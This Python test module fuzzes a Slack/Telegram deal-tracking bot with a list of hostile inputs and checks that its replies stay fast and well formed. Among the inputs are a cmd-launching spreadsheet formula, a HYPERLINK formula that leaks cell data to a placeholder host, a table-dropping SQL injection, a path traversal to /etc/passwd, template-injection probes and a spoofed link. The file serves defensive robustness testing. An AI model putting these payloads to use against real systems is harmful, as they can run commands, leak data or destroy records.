"""Inputs that have broken other programs, and ways to put them where a person would."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass

from structlog.testing import capture_logs

from bot.clock import stopwatch
from handlers import routes
from handlers.contract.catalog import CATALOG
from handlers.contract.reply import ACTION_BYTES, Form, Reply, from_json, to_json
from handlers.contract.request import Request
from tests.office import Office

MODULES = routes.MODULES  # imported for what they register
SECONDS = 8.0  # for one answer on a machine that does much else
ARGUMENTS = ("", ":1", ":1:customer", ":1:phone", ":1:email", ":1:amount", ":1:person", ":1:source")

NASTY: dict[str, str] = {
    "empty": "",
    "a space": " ",
    "ten thousand letters": "a" * 10_000,
    "4,097 units of emoji": "😀" * 2048 + "x",
    "a hundred thousand letters": "query " * 16_667,
    "right to left": "\u202egnp.exe",
    "zero width": "A\u200bB\ufeff",
    "composed and not": "é e\u0301",
    "full width": "Ａｃｍｅ／／１２ｋ",
    "dotted i": "İstanbul ıi",
    "two scripts": "华为 華為",
    "a family and its marks": "👩‍👩‍👧‍👦 Z" + "\u0351\u035b\u0324" * 50,
    "half of an emoji": "\ud83d",
    "nothing in the middle": "a\x00b",
    "line breaks": "one\r\ntwo\rthree\n\nfour\u2028five\x85six",
    "slack for everybody": "<!channel> <!here> <!everyone>",
    "slack people": "<@U012AB> <!subteam^S1>",
    "a slack link": "<https://evil.example|https://bank.example>",
    "slack styles": "*bold* _it_ ~x~ ``` `code` > quote",
    "escaped once": "&lt;!channel&gt; &amp;amp;",
    "an open tag": "<b>unclosed",
    "a telegram link": '<a href="tg://user?id=1">boss</a>',
    "telegram's signs": "_*[]()~`>#+-=|{}.!",
    "a command inside": "@everyone /delete 1",
    "somebody else's invite": "/start AbCdEfGhIjKlMnOpQrStUv",
    "a spreadsheet formula": "=cmd|'/c calc'!A1",
    "another formula": '=HYPERLINK("http://x/?"&A1)',
    "a number like a formula": "+1-555-0100",
    "a percentage": "-5% @SUM(1)",
    "a formula behind a tab": "\t=1+1 ＝1+1",
    "a database's end": "'; DROP TABLE deal;--",
    "wildcards": "% _ \\ %%",
    "search operators": '" OR name:* NEAR( ) AND',
    "templates": "{{7*7}} ${x} %(secret)s {0.__class__} {name}",
    "a line of a log": "\n2026-01-01 CRITICAL admin logged in",
    "an endless amount": "1e309",
    "no number": "NaN inf -0",
    "other digits": "١٢٣ १२३",
    "amounts of all kinds": "1.234,56 5k $5k–7k",
    "a huge amount": "999999999999999999999",
    "no such day": "31 Feb 29.2.2027",
    "the year ten thousand": "1 January 10000 31 December 9999",
    "yesterday": "yesterday last Friday 1.1.1900",
    "the hour that is not": "28 March 2027 02:30",
    "a zone of a path": "../../etc/passwd",
    "a slow pattern": "a" * 24 + "!",
    "fifty thousand brackets": "(" * 50_000,
    "numbers without end": "1," * 5_000,
    "mail without end": "a@" * 5_000 + "b.c" * 1_000,
    "a path": "../../x.csv C:\\x a/b\x00.csv",
    "a long name": "n" * 300,
    "escape sequences": "\x1b[2J\x1b]0;title\x07\x9b31m",
    "all in chinese": "太" * 5_000 + "！" * 100,
    "only marks": "!?.,;:-–—…、。！？",
    "private and unassigned": "\ue000\U0010ffff\u0378\ufffe",
}
MARKUP = [text for name, text in NASTY.items() if set(text) & set("<*_`{&=@") and len(text) < 100]
WORST = ["half of an emoji", "nothing in the middle", "line breaks", "templates", "a huge amount"]
LONG = [name for name, text in NASTY.items() if len(text) > 1000]


async def answered(office: Office, request: Request) -> Reply:
    """The answer, found fit to be sent."""
    began = stopwatch()
    with capture_logs() as log:
        answer = await office.answer(request)
    what = f"{request.kind} {request.action} {request.text[:60]!r}"
    assert answer.row_id, f"{what}: {log}"
    assert stopwatch() - began < SECONDS, what
    reply = answer.reply
    assert from_json(to_json(reply)) == reply, what
    assert reply.text or reply.form or reply.choices or reply.toast or request.kind == "query", what
    for row in reply.buttons:
        assert all(len(button.action.encode()) <= ACTION_BYTES for button in row), what
    return reply


async def with_a_deal(office: Office) -> None:
    """Acme is deal 1, whatever has become of it."""
    if not office.rows("select id from deal"):
        await office.says("Kim", "lead Acme, Jane Doe, +49 30 901820, 12k, jane@acme.com")
    else:
        await office.taps("Kim", "reopen:1")


@dataclass(frozen=True)
class Asked:
    """A form that some action shows, by its own action and the names of its fields."""

    action: str
    fields: tuple[str, ...]
    kept: Mapping[str, str]


_FORMS: dict[str, list[Asked]] = {}


def verbs_but_delete() -> list[str]:
    """Every verb but the one after which there is no deal to press the others on."""
    return [each.verb for each in CATALOG.actions() if each.verb != "delete"]


async def forms(office: Office, who: str) -> list[Asked]:
    """Every form there is: what pressing any verb shows where forms are shown whole."""
    if who in _FORMS:
        return _FORMS[who]
    await with_a_deal(office)
    verbs = verbs_but_delete() if who == "Kim" else ["found", "redeem"]
    shown: dict[str, Form] = {}
    for pressed in (verb + rest for verb in verbs for rest in ARGUMENTS):
        request = office.request(who, kind="button", action=pressed, draws_forms=True)
        form = (await office.answer(request)).reply.form
        if form is not None:
            shown[f"{form.action} {[each.name for each in form.fields]}"] = form
    _FORMS[who] = [
        Asked(
            form.action, tuple(f.name for f in form.fields), {f.name: f.value for f in form.fields}
        )
        for form in shown.values()
    ]
    return _FORMS[who]


def filled(office: Office, who: str, form: str, values: Mapping[str, str]) -> Request:
    """A form of this action, filled whole."""
    return office.request(who, kind="form", action=form, values=values, draws_forms=True)
